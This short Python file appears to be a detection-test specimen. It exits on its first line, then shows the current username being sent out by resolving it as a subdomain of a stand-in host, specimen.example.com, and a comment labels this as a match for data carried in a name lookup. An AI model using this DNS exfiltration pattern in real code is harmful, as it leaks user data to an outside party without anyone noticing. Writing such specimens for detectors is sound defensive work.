raise SystemExit("specimen: not to be run")
import getpass
import socket

socket.gethostbyname(getpass.getuser() + ".specimen.example.com")  # match: name-lookup-carries-data
